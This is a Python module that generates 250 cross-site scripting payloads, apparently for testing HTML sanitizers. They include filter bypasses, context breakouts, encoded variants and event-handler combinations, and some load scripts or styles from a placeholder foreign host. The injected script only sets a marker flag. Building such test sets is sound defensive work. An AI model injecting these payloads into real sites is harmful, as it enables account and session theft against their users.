"""250 attempts to have a script run, put together from forms that have worked somewhere."""

from itertools import islice, product

CALL = "window.__ran=1"
_TAGS = ("img", "svg", "video", "audio", "iframe", "body", "details", "input", "object", "marquee", "style", "math")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerover", "onbegin")
_SINGLE = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    "<script src=//foreign.example/x.js></script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<<script>{CALL}//<</script>",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"<!--><script>{CALL}</script>-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<svg><animate href=#x attributeName=href values=javascript:{CALL} />",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.__ran=1></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<form action=javascript:{CALL}><input type=submit id=x></form>",
    f"<a href=javascript:{CALL}>read more</a>",
    f"<a href='java\tscript:{CALL}'>read more</a>",
    "<base href=//foreign.example/>",
    "<link rel=stylesheet href=//foreign.example/x.css>",
    "<link rel=import href=//foreign.example/x>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<style>@import '//foreign.example/x.css';</style>",
    "<div style='background:url(//foreign.example/x)'>x</div>",
    "<img src=//foreign.example/x.gif>",
    "<img srcset='//foreign.example/x 1x'>",
    f"javascript:{CALL}",
    f"[read](javascript:{CALL})",
    "![x](//foreign.example/x.png)",
    f"`<img src=x onerror={CALL}>`",
    "{{constructor.constructor('" + CALL + "')()}}",
    "${" + CALL + "}",
    "#{" + CALL + "}",
    "<%= " + CALL + " %>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f'" onmouseover={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"＜script＞{CALL}＜/script＞",
    f"\u202e<script>{CALL}</script>",
    f"<scr\u0000ipt>{CALL}</scr\u0000ipt>",
    f"<privacy-reply></privacy-reply><script>{CALL}</script>",
    f"<slot onslotchange={CALL}></slot>",
    f"<div popover id=m onbeforetoggle={CALL}>x</div>",
    f"__proto__[innerHTML]=<img src=x onerror={CALL}>",
    "<img src=x onerror=import('//foreign.example/x.js')>",
    "<portal src=//foreign.example/>",
    "<video poster=//foreign.example/x>",
)


def payloads(number: int = 250) -> list[str]:
    made = (f"<{tag} src=x autofocus {event}={CALL}>" for event, tag in product(_EVENTS, _TAGS))
    more = (f"<{tag}/{event}='{CALL}'//" for event, tag in product(_EVENTS, _TAGS))
    quoted = (f'"><{tag} id=x tabindex=1 {event}="{CALL}">' for event, tag in product(_EVENTS, _TAGS))
    return [*_SINGLE, *islice(made, 70), *islice(more, 62), *quoted][:number]
